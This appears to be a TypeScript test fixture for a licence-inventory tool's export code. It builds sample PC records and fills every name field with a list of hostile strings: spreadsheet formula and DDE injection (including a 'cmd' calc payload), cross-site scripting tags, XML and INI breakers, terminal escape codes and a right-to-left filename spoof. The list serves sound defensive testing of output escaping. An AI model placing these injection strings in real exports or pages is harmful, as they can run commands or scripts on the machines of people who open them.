// What exports are made from in tests: licences of all kinds, and names that a stranger chose.
import type { SealedRecord } from '../../src/record/sealed-record.js';
import type { Licence, RecordContent } from '../../src/record/schema.js';
import type { ExportInput } from '../../src/report/export/export-input.js';
import { licenceOf, samples } from './licences-of-kinds.js';
import { sixKeyContent, smallContent } from './sample-content.js';

/** An export of these PCs. */
export function exportOf(...contents: readonly RecordContent[]): ExportInput {
  const opened = contents.map((content, i) => ({
    ...{ name: `record-${i}`, tag: content.machine.tag, targets: ['stick'] },
    ...{ content, hasRecovery: false, sealed: new Uint8Array() as SealedRecord },
  }));
  return {
    result: {
      ...{
        opened,
        failed: [],
        unopened: [],
        unreached: [],
        closed: [],
        warnings: [],
        isInterrupted: false,
      },
    },
    words: () => '',
    now: new Date('2026-11-27T12:00:00Z'),
  };
}

/** A PC of this name with these licences. */
export function pcWith(
  licences: readonly Licence[],
  name: string | null = 'ANNA-PC',
): RecordContent {
  return { ...smallContent, machine: { ...smallContent.machine, name }, licences: [...licences] };
}

/** A licence of each kind. */
export const ofAllKinds: RecordContent = pcWith(samples.map(([, , changes]) => licenceOf(changes)));

/** A PC with six keys, and one with a licence of each kind. */
export const usualExport = exportOf(sixKeyContent, ofAllKinds);

/** Names that mean something to a shell, a spreadsheet, a browser, a terminal or a parser. */
export const hostileNames = [
  '"quoted", with a comma',
  'two\r\nlines\nof\rtext',
  '=HYPERLINK("http://x.invalid/"&A1)',
  "+1+cmd|'/c calc'!A0",
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\uff1d1+1',
  '<script>alert(1)</script>',
  `' onmouseover='alert(1)`,
  '</style><img src=x onerror=alert(1)>',
  ']]>&lt;&amp;&#0;',
  '[section]\nCD Key=AAAAA',
  '\u001b[2J\u0007\u0000\u009b\u202egnp.exe',
  'half \ud800 of one, \ufffe \uffff',
] as const;

/** PCs with these names in every place where a name may stand. */
export const hostileExport = exportOf(
  ...hostileNames.map((name, i) =>
    pcWith(
      [
        licenceOf({
          ...{ product: name, channel: name, edition: name, productId: name, partNumber: name },
          ...{ note: name, seller: name, orderNumber: name, purchasedOn: name },
          ...{ cautions: [name], lastFive: '3V66T' },
          places: [{ collector: 'registry', location: name, foundAt: '2026-01-01T00:00:00Z' }],
        }),
        licenceOf({ product: name, productKey: null, lastFive: null, cautions: ['not-found'] }),
      ],
      `${name}${i}`,
    ),
  ),
);
